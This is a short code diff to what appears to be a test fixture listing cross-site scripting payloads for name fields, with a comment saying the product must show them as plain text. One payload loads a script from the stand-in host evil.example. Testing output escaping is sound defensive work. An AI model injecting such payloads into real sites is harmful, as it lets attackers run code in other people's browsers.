@@ -1,4 +1,4 @@
-/** What a person might write into a name to make somebody else's browser obey. All of it is only text. */
+/** Names with script payloads. The product must show all of them as plain text. */
 export const PAYLOADS: readonly string[] = [
   '<script>alert(1)</script>',
   '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
